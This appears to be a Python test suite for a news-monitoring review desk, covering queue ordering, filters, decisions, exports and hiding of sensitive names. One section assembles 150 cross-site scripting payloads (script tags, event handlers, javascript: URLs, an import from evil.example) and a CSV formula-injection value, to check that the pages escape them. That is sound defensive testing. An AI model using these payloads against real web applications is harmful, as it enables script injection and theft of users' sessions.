"""The queue and its cards: what they show to whom, what a decision does, and that nothing of the world runs there."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime
from hashlib import sha256
from importlib.resources import files
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html
from sqlalchemy import delete, update

from deskkit import Browser, account, client
from monitor.app import App
from monitor.config import Settings
from monitor.model import (
    Act,
    Confidence,
    Entity,
    EntityType,
    Field,
    Outcome,
    Placement,
    Reason,
    Result,
    Role,
    Run,
    Sought,
    Span,
    Split,
    State,
    Verdict,
    WatchlistChange,
)
from monitor.store import open_store
from monitor.store import tables as t
from monitor.store.desk import split_of
from monitor.web import create_desk
from monitor.web.card import Part, context, split
from monitor.web.filters import Filters
from monitor.web.queue import cell
from storekit import CHOLPON, DAY, HOUR, KOS, MELIS, NOW, TEXT, article, backlog, filed, hit, mention, stored, watch
from storekit import item as item_of

SECRET = Entity("secret", "Aizada Hidden", sensitive=True)
RUSSIAN = "Суд продлил арест. Мелис Токоев остаётся под стражей. О чём ещё спросить?"
BOTH = "Melis Tokoev wrote about Cholpon Arzyeva. Nobody else did."
MAYBE = hit("Melis Tokoev", confidence=Confidence.POSSIBLE, alerts=False)


class Time:
    def __init__(self) -> None:
        self.now = NOW

    def __call__(self) -> datetime:
        return self.now


def home(folder: Path, tables: Path) -> App:
    settings = Settings(home=folder, database_url=f"sqlite:///{shutil.copy(tables, folder / 'monitor.db')}")
    return App(settings, open_store(settings.database_url))


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory, sqlite_with_tables: Path) -> Iterator[App]:
    """Items 1 to 4, the last the newest: possible, then three clear ones; the second has a copy and a follow-up."""
    app = home(tmp_path_factory.mktemp("queue"), sqlite_with_tables)
    watch(app.store)
    filed(app.store, MAYBE, at=NOW - 4 * HOUR, title="Chess: the results", outlet="Sport")
    two = filed(app.store, at=NOW - 3 * HOUR)
    copy = stored(app.store, hit(), at=NOW - 2 * HOUR, outlet="Copycat")
    lead = app.store.reviews.get(two.id).articles[0].id
    app.store.stories.file(copy, Placement(two.story, copy_of=lead), two, NOW - 2 * HOUR, was=1)
    named = (hit("Melis Tokoev", text=BOTH), hit("Cholpon Arzyeva", "cholpon", BOTH))
    filed(app.store, *named, at=NOW - HOUR, text=BOTH, title="A reporter on another", outlet="Herald")
    filed(app.store, hit("Мелис Токоев", text=RUSSIAN), text=RUSSIAN, title="Арест продлён", language="ru")
    app.store.runs.save(Run(started=NOW, ended=NOW))
    yield app
    app.close()


@pytest.fixture
def app(filled: App) -> App:
    """As filled, with nothing said of it."""
    filled.clock = Time()
    with filled.store.database.writing("a test") as connection:
        for table in (t.audit, t.session, t.invitation, t.decision, t.person):
            connection.execute(delete(table))
        fresh = {"version": 1, "state": "open", "verdict": None, "until": None, "reopened": "", "reopened_at": None}
        connection.execute(update(t.review_item).values(fresh))
    return filled


@pytest.fixture
def aida(app: App) -> Browser:
    return client(create_desk(app), account(app, "Aida", Role.REVIEWER))


@pytest.fixture
def bakyt(app: App) -> Browser:
    return client(create_desk(app), account(app, "Bakyt", Role.REVIEWER))


def say(browser: Browser, item: int, act: str, version: int = 1, query: str = "", **more: object) -> tuple[int, str]:
    answer = browser.post(f"/items/{item}/decide{query}", {"act": act, "version": version, **more})
    return answer.status_code, answer.headers.get("location", "").split("said=")[0].rstrip("?&")


def listed(browser: Browser, query: str = "") -> list[int]:
    page = html.fromstring(browser.get(f"/queue{query}").text)
    return [int(href.split("/")[2].split("?")[0]) for href in page.xpath("//a[@class='open']/@href")]


# ---- the list -------------------------------------------------------------------------------------------------------


def test_the_queue_is_clear_before_possible_and_newest_first(aida: Browser):
    assert listed(aida) == [4, 3, 2, 1]
    page = aida.get("/queue").text
    assert 'lang="ru" dir="auto">Арест продлён' in page and "1 copy" in page
    assert "<mark>Мелис Токоев</mark>" in page


@pytest.mark.parametrize(
    ("language", "new", "sure"), [("en", "NEW", "clear"), ("ru", "НОВОЕ", "точно"), ("ky", "ЖАҢЫ", "так")]
)
def test_the_digest_is_shown_in_the_visitors_language(app: App, language: str, new: str, sure: str):
    page = client(create_desk(app), account(app, "Vera", Role.READER, language)).get("/digest").text
    assert f"<h2>{new}</h2>" in page and f'{sure}: <span lang="en">' in page
    assert '<span dir="auto" lang="en">«<mark>Melis Tokoev</mark> stays in custody' in page


def test_each_part_of_the_queue_holds_its_own(app: App, aida: Browser):
    say(aida, 4, "relevant")
    say(aida, 3, "unsure")
    say(aida, 2, "later:7")
    assert listed(aida, "?show=decided") == [4]
    assert listed(aida, "?show=asked") == [3]
    assert listed(aida, "?show=later") == [2]
    assert listed(aida, "?show=possible") == [1]
    assert listed(aida) == [3, 1]
    app.clock.now = NOW + 8 * DAY  # type: ignore[attr-defined]
    assert listed(client(create_desk(app), app.store.people.named("Aida"))) == [3, 2, 1]


def test_sql_and_python_put_every_item_in_the_same_part(app: App, aida: Browser):
    for item, act in ((4, "relevant"), (3, "unsure"), (2, "later:1")):
        say(aida, item, act)
    for now in (NOW, NOW + 2 * DAY):
        counts = app.store.desk.splits(Sought(), now, ())
        parts = [split_of(app.item(n), now) for n in (1, 2, 3, 4)]
        assert {s: n for s, n in counts.items() if n and s is not Split.WAITING} == {
            s: parts.count(s) for s in set(parts)
        }


def test_filters_narrow_and_stand_in_the_address_by_number(app: App, aida: Browser):
    numbers = app.store.watchlists.numbers()
    assert listed(aida, f"?name={numbers['cholpon']}") == [3]
    assert listed(aida, "?outlet=Copycat") == [2]
    assert listed(aida, "?lang=ru") == [4]
    assert listed(aida, "?sure=possible") == [1]
    assert listed(aida, f"?since={NOW:%Y-%m-%d}&until={NOW:%Y-%m-%d}") == [4, 3, 2, 1]
    assert listed(aida, f"?since={NOW + DAY:%Y-%m-%d}") == []
    assert listed(aida, "?name=²&since=never&sure=x&page=-1&show=zzz") == [4, 3, 2, 1]
    page = aida.get(f"/queue?name={numbers['cholpon']}").text
    assert "Cholpon Arzyeva (1)" in page and "Melis Tokoev (1)" in page  # counts are of what is filtered


def test_words_are_searched_in_any_case_and_stand_in_no_address(aida: Browser):
    for words, found in (
        ("АРЕСТ", [4]),
        ("нЕе", []),
        ("О чем", [4]),
        ("court custody", [2, 1]),
        ("100%", []),
        ("_", []),
    ):
        page = aida.post("/queue", {"words": words})
        assert page.status_code == 200
        hrefs = html.fromstring(page.text).xpath("//a[@class='open']/@href")
        assert [int(h.split("/")[2]) for h in hrefs] == found, words
    assert not any(
        "court" in str(h) for h in html.fromstring(aida.post("/queue", {"words": "court"}).text).xpath("//@href")
    )


def test_an_empty_queue_says_whether_that_is_quiet_or_broken(aida: Browser):
    page = aida.get("/queue?show=follow-up").text
    assert "Nothing waits for you here" in page and "quiet, not broken" in page


def test_the_same_list_is_json_and_csv(app: App, aida: Browser):
    say(aida, 4, "not-relevant:another-person", note="=cmd()")
    rows = aida.get("/queue.json?show=decided").json()["items"]
    assert [(r["id"], r["verdict"], r["headline"]) for r in rows] == [(4, "not-relevant", "Арест продлён")]
    answer = aida.get("/queue.csv?show=decided")
    (row,) = csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff")))
    assert (row["item"], row["reason"], row["note"], row["clear"]) == ("4", "another-person", "'=cmd()", "Melis Tokoev")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert [line.act for line in app.store.people.audit(3)] == [Act.EXPORTED, Act.EXPORTED, Act.DECIDED]


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=20), st.sampled_from("=+-@＝＋－＠\t\r"), st.sampled_from(["", " ", '"', "';", " \n"]))
def test_no_cell_begins_a_formula(rest: str, risky: str, before: str):
    assert cell(before + risky + rest).startswith("'")
    assert cell(f"a{risky}{rest}") == f"a{risky}{rest}".replace("\x00", "")


# ---- judging --------------------------------------------------------------------------------------------------------


def test_a_decision_is_signed_and_the_next_item_comes(app: App, aida: Browser):
    assert say(aida, 4, "relevant") == (303, "/items/3")
    (decision,) = app.item(4).history
    assert (decision.by, decision.verdict, app.item(4).state) == ("Aida", Verdict.RELEVANT, State.DECIDED)
    assert say(aida, 1, "not-relevant:common-word", note=" a judo fighter ") == (303, "/queue")  # it was the last
    (decision,) = app.item(1).history
    assert (decision.reason, decision.note) == (Reason.COMMON_WORD, "a judo fighter")


def test_the_next_item_is_the_next_of_the_list_it_was_opened_from(aida: Browser):
    assert say(aida, 2, "relevant", query="?outlet=Copycat&latin=1") == (303, "/queue?outlet=Copycat&latin=1")
    assert say(aida, 4, "unsure", query="?show=new") == (303, "/items/3?show=new")


def test_one_name_can_be_judged_alone(app: App, aida: Browser):
    numbers = app.store.watchlists.numbers()
    assert say(aida, 3, "not-relevant:another-person", entity=numbers["cholpon"]) == (303, "/items/3")
    assert say(aida, 3, "relevant", 2, entity=numbers["melis"]) == (303, "/items/2")  # and now all is said
    assert {h.entity: h.verdict for h in app.item(3).hits} == {
        "melis": Verdict.RELEVANT,
        "cholpon": Verdict.NOT_RELEVANT,
    }
    assert say(aida, 2, "relevant", entity=numbers["kos"])[0] == 404


def test_a_stale_decision_is_not_stored_and_shows_the_other(app: App, aida: Browser, bakyt: Browser):
    say(aida, 4, "relevant", note="two sources")
    answer = bakyt.post("/items/4/decide", {"act": "not-relevant", "version": 1})
    assert answer.status_code == 409
    assert all(words in answer.text for words in ("Somebody was quicker", "Aida", "two sources"))
    assert 'name="version" value="2"' in answer.text and len(app.item(4).history) == 1


def test_a_form_sent_twice_says_it_once(app: App, aida: Browser):
    assert [say(aida, 4, "relevant")[0] for _ in range(3)] == [303, 303, 303]
    assert len(app.item(4).history) == 1


def test_every_decision_can_be_taken_back_also_an_earlier_one(app: App, aida: Browser, bakyt: Browser):
    say(aida, 4, "relevant")
    say(bakyt, 3, "relevant")
    said = app.item(4).history[0].id
    assert f'name="decision" value="{said}"' in aida.get("/queue").text  # always at hand
    assert f'name="decision" value="{said}"' not in bakyt.get("/queue").text
    for _ in range(2):  # the second time changes nothing
        assert bakyt.post("/items/4/undo", {"decision": said}).status_code == 303
    assert (app.item(4).state, len(app.item(4).history)) == (State.OPEN, 2)
    assert aida.post("/items/3/undo", {"decision": said}).status_code == 404  # it is of another item


def test_what_is_just_done_is_announced_with_what_is_left(app: App, aida: Browser):
    answer = aida.post("/items/4/decide", {"act": "relevant", "version": 1})
    page = html.fromstring(aida.get(answer.headers["location"]).text)
    assert page.get_element_by_id("page").get("data-said") == "Saved: relevant. 3 left. Undo: Z"
    assert html.fromstring(aida.get("/items/3").text).get_element_by_id("page").get("data-said") == ""


@pytest.mark.parametrize(
    "form", [{}, {"act": "relevant"}, {"act": "x", "version": 1}, {"act": "later:2x", "version": "y"}]
)
def test_a_broken_form_is_refused(app: App, aida: Browser, form: dict[str, object]):
    assert aida.post("/items/4/decide", form).status_code == 400
    assert app.item(4).history == ()


def test_reasons_go_with_not_relevant_alone(aida: Browser):
    assert say(aida, 4, "relevant:common-word")[0] == 400
    assert say(aida, 4, "not-relevant:because")[0] == 400


def test_an_item_that_is_not_there_is_not_there(aida: Browser):
    for path in ("/items/99", "/items/0", "/items/4/articles/1", "/digest/2999-01-01"):
        assert aida.get(path).status_code == 404, path
    for path in ("/items/x", "/items/-1", "/items/99999999999999999999", "/items/4/articles/2147483648"):
        assert aida.get(path).status_code == 400, path


def test_an_item_that_was_merged_is_found_where_it_is_now(tmp_path: Path, sqlite_with_tables: Path):
    app = home(tmp_path, sqlite_with_tables)
    app.clock = Time()
    watch(app.store)
    one, two = filed(app.store, at=NOW - HOUR), filed(app.store)
    browser = client(create_desk(app), account(app, "Aida", Role.REVIEWER))
    say(browser, two.id, "unsure")
    app.merge(one.id, two.id, by="Bakyt")
    assert listed(browser) == [one.id] and listed(browser, "?show=decided") == []
    assert f"/items/{one.id}/undo" in browser.get(f"/items/{two.id}").text
    assert say(browser, two.id, "relevant", 2)[0] == 409
    assert browser.post(f"/items/{one.id}/undo", {"decision": app.item(one.id).history[0].id}).status_code == 303
    app.close()


# ---- the card -------------------------------------------------------------------------------------------------------


def test_a_card_shows_each_name_in_its_words_with_the_reason(aida: Browser):
    page = aida.get("/items/4?latin=1").text
    assert "<mark>Мелис Токоев</mark> остаётся под стражей" in page
    assert "Melis Tokoev ostaetsya" in page and 'lang="ru-Latn"' in page
    assert "same words" in page and "stored text" in page
    article = aida.get("/items/2/articles/2").text
    assert sha256(TEXT.encode()).hexdigest() in article and 'rel="noreferrer noopener external"' in article


@settings(max_examples=40, deadline=None)
@given(st.text("абв .\n", max_size=700), st.data())
def test_a_passage_is_the_text_itself_with_its_places_marked(source: str, data: st.DataObject):
    place = st.integers(0, len(source)).flatmap(lambda a: st.integers(a, len(source)).map(lambda b: Span(a, b)))
    span = data.draw(place)
    around = context(source, span)
    inside = [s for s in data.draw(st.lists(place, max_size=4)) if around.start <= s.start and s.end <= around.end]
    parts = list(split(source, around, sorted(inside, key=lambda s: s.start)))
    assert "".join(p.text for p in parts) == around.of(source)


def test_a_word_named_twice_in_a_sentence_is_marked_twice():
    source = "Kos asked Kos."
    parts = split(source, Span(0, len(source)), [Span(0, 3), Span(10, 13)])
    assert list(parts) == [Part("Kos", True), Part(" asked "), Part("Kos", True), Part(".")]


# ---- nothing of the world runs --------------------------------------------------------------------------------------

_SCRIPTS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "import('//evil.example')", "eval(atob('YWxlcnQoMSk='))")
_SHAPES = (
    "<script>{}</script>", "</script><script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<img src=x onerror={}>",
    "<svg onload={}>", "<svg><animate onbegin={} attributeName=x>", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>", "<a href='java\tscript:{}'>x</a>", "<math href=javascript:{}>x", "\"><script>{}</script>",
    "' onmouseover={} x='", "\" onfocus={} autofocus x=\"", "--><script>{}</script>", "]]><script>{}</script>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>", "{{{{ {} }}}}",
    "{{% raw %}}{}", "${{{}}}", "<details open ontoggle={}>", "<form action=javascript:{}><button>x", "<object data=javascript:{}>",
    "<base href=javascript:{}//>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import 'x{}'</style>",
    "<link rel=stylesheet href=javascript:{}>", "<template><script>{}</script></template>",
)  # fmt: skip
PAYLOADS = [shape.format(script) for shape in _SHAPES for script in _SCRIPTS]
ELEMENTS = frozenset(
    "html head meta title link script body p div a header nav div button kbd span main h1 h2 h3 form input label "
    "details summary select option ol ul li time section article blockquote mark footer aside fieldset legend "
    "textarea bdi b strong dl dt dd code dialog table thead tbody tr th td".split()
)


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) == 150


def test_no_text_of_strangers_becomes_markup(tmp_path: Path, sqlite_with_tables: Path):
    app = home(tmp_path, sqlite_with_tables)
    app.clock = Time()
    evil = "\n".join(PAYLOADS)
    nobody = Entity("evil", "Evil " + PAYLOADS[0], EntityType.PERSON, ("<script>alias()</script>",))
    watch(app.store, MELIS, nobody)
    text = f"Melis Tokoev {evil} Melis Tokoev"
    found = replace(mention("Melis Tokoev", text), why=tuple(PAYLOADS), alias=PAYLOADS[1])
    in_title = replace(found, field=Field.TITLE, span=Span(0, 12))
    item = filed(
        app.store,
        replace(hit(text=text), mentions=(found, in_title), why=PAYLOADS[2]),
        hit("Melis Tokoev", "evil", text),
        text=text,
        title=f"Melis Tokoev {evil}",
        url="javascript:alert(1)",
        outlet=PAYLOADS[3],
        authors=(PAYLOADS[4],),
        language="<x>",
    )
    admin = account(app, "<img src=x onerror=alert(1)>", Role.ADMIN)
    browser = client(create_desk(app), admin)
    app.store.runs.save(Run(started=NOW, ended=NOW, problems=(PAYLOADS[5],)))
    say(browser, item.id, "unsure", note=evil[:1900])
    say(browser, item.id, "relevant", note=PAYLOADS[6])  # a conflict
    pages = [f"/items/{item.id}?latin=1", f"/items/{item.id}/articles/1", "/queue?latin=1", "/queue?outlet=%3Cscript%3E", "/digest",
             "/runs", "/people", "/audit", "/account", "/sign-in?next=%22%3E%3Cscript%3E", "/sources", "/<script>"]  # fmt: skip
    shown = [browser.get(page).text for page in pages]
    shown.append(browser.post("/queue", {"words": PAYLOADS[0]}).text)
    shown.append(browser.post("/sign-in", {"name": PAYLOADS[0], "password": "x", "next": PAYLOADS[1]}).text)
    shown.append(browser.post(f"/items/{item.id}/decide", {"act": "relevant", "version": 1, "note": evil[:1900]}).text)
    app.close()
    for page in shown:
        for element in html.fromstring(page).iter():
            if not isinstance(element.tag, str):
                continue
            assert element.tag in ELEMENTS, element.tag
            for name, value in element.attrib.items():
                assert not name.startswith("on") and name not in {"style", "srcdoc"}, name
                if name in {"href", "src", "action"}:
                    assert value.startswith(("/", "#", "?", "https://post.example")), value
            if element.tag == "script":
                assert element.get("src", "").startswith("/static/") and not element.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown[0]


def test_the_vendored_script_is_the_one_that_was_looked_at():
    static = files("monitor.web") / "static"
    digest = sha256((static / "htmx.min.js").read_bytes()).hexdigest()
    assert digest == "a0abb04f2f45a1f89d1d4844023245537e5e6014c87b144553e0607b4cc32130"  # htmx.org 4.0.1
    assert (static / "htmx.LICENSE.txt").read_text("utf-8").startswith("Zero-Clause BSD")


# ---- names that only administrators may know of ---------------------------------------------------------------------


def two_homes(tmp_path: Path, tables: Path) -> tuple[App, App]:
    """The same news, with and without a name that is marked sensitive; what is about it alone comes last."""
    both = "Melis Tokoev wrote of Aizada Hidden."
    apps = []
    for name, known in (("with", True), ("without", False)):
        (tmp_path / name).mkdir()
        app = home(tmp_path / name, tables)
        app.clock = Time()
        watch(app.store, MELIS, KOS, *([SECRET] if known else []))
        secret = [hit("Aizada Hidden", "secret", both)] if known else []
        filed(app.store, at=NOW - 3 * HOUR, url="https://post.example/a")
        item = filed(app.store, hit(text=both), *secret, at=NOW - 2 * HOUR, text=both, url="https://post.example/b")
        alone = "Aizada Hidden was seen."
        if known:
            joins = stored(app.store, hit("Aizada Hidden", "secret", alone), at=NOW - HOUR, text=alone, outlet="Other")
            now = replace(item, version=item.version)
            app.store.stories.file(joins, Placement(item.story), now, NOW - HOUR, was=item.version)
            filed(
                app.store,
                hit("Aizada Hidden", "secret", alone),
                at=NOW - HOUR,
                text=alone,
                outlet="Third",
                language="ky",
            )
        else:
            for n in (8, 9):
                (entry,) = backlog(app.store, item_of(n))
                kept = article(f"post.example/{n}", alone, first_seen=NOW - HOUR)
                app.store.entries.save_result(Result(entry, NOW - HOUR, Outcome.NO_MATCH, article=kept))
        apps.append(app)
    return apps[0], apps[1]


def test_without_the_role_a_sensitive_name_changes_nothing_anywhere(tmp_path: Path, sqlite_with_tables: Path):
    apps = two_homes(tmp_path, sqlite_with_tables)
    seen = []
    for app in apps:
        browser = client(create_desk(app), account(app, "Aida", Role.REVIEWER))
        pages = ["/queue", "/queue?show=new", "/queue?outlet=Other", "/queue?lang=ky", "/queue?name=3", "/items/1", "/items/2",
                 "/items/3", "/items/2/articles/3", "/queue.json", "/queue.csv", "/digest", "/runs"]  # fmt: skip
        answers = [browser.get(page) for page in pages]
        answers.append(browser.post("/queue", {"words": "seen"}))
        answers += [browser.post("/items/2/decide", {"act": "relevant", "version": 1}), browser.get("/queue")]
        answers += [
            browser.get("/queue?show=decided"),
            browser.get("/items/2"),
            browser.get("/queue.json?show=decided"),
        ]
        seen.append([(a.status_code, a.text.replace("https://post.example/", "")) for a in answers])
    for with_it, without in zip(*seen, strict=True):
        assert "Aizada Hidden was seen" not in with_it[1]
        assert with_it[0] == without[0] and with_it[1].splitlines() == without[1].splitlines()
    for app in apps:
        app.close()


def test_an_administrator_still_has_to_judge_what_a_reviewer_could_not(tmp_path: Path, sqlite_with_tables: Path):
    app, other = two_homes(tmp_path, sqlite_with_tables)
    desk = create_desk(app)
    aida, admin = client(desk, account(app, "Aida", Role.REVIEWER)), client(desk, account(app, "Root", Role.ADMIN))
    say(aida, 2, "not-relevant")
    assert listed(aida) == [1] and 2 in listed(admin)
    assert {h.entity: h.verdict for h in app.item(2).hits} == {"melis": Verdict.NOT_RELEVANT, "secret": None}
    assert "sensitive" in admin.get("/items/2").text
    assert app.store.people.audit(1)[0].act is Act.READ_SENSITIVE
    say(admin, 2, "relevant", app.item(2).version)
    assert app.item(2).state is State.DECIDED
    said = app.item(2).history[-1].id
    assert aida.post("/items/3/undo", {"decision": said}).status_code == 404
    for opened in (app, other):
        opened.close()


def test_the_log_holds_numbers_and_no_names(app: App):
    admin = client(create_desk(app), account(app, "Root", Role.ADMIN))
    app.store.watchlists.apply(WatchlistChange(changed=((MELIS, replace(MELIS, sensitive=True)),)), "test", NOW)
    try:
        admin.get("/items/4")
        say(admin, 4, "relevant", note="about Melis Tokoev")
        page = admin.get("/audit").text
        assert "read an item with a sensitive name" in page and "decided" in page
        assert not any(name in page for name in (*MELIS.names, CHOLPON.name))
    finally:
        app.store.watchlists.apply(WatchlistChange(changed=((MELIS, MELIS),)), "test", NOW)


# ---- addresses ------------------------------------------------------------------------------------------------------


@settings(max_examples=40, deadline=None)
@given(
    st.sampled_from(list(Split)),
    st.one_of(st.none(), st.integers(0, 10**8)),
    st.text(max_size=30),
    st.sampled_from(["", "ky"]),
    st.one_of(st.none(), st.sampled_from(list(Confidence))),
    st.dates(min_value=datetime(1991, 1, 1).date(), max_value=datetime(2199, 12, 30).date()),
)
def test_filters_come_back_from_their_address(split_: Split, name: int | None, outlet: str, language: str, sure, day):  # type: ignore[no-untyped-def]
    from urllib.parse import parse_qsl, urlsplit
    from zoneinfo import ZoneInfo

    zone = ZoneInfo("Asia/Bishkek")
    query = {"show": split_.value, "name": "" if name is None else str(name), "outlet": outlet, "lang": language,
             "sure": sure.value if sure else "", "since": day.isoformat()}  # fmt: skip
    filters = Filters.read(query, zone)
    address = urlsplit(filters.link("/queue"))
    assert Filters.read(dict(parse_qsl(address.query)), zone) == filters
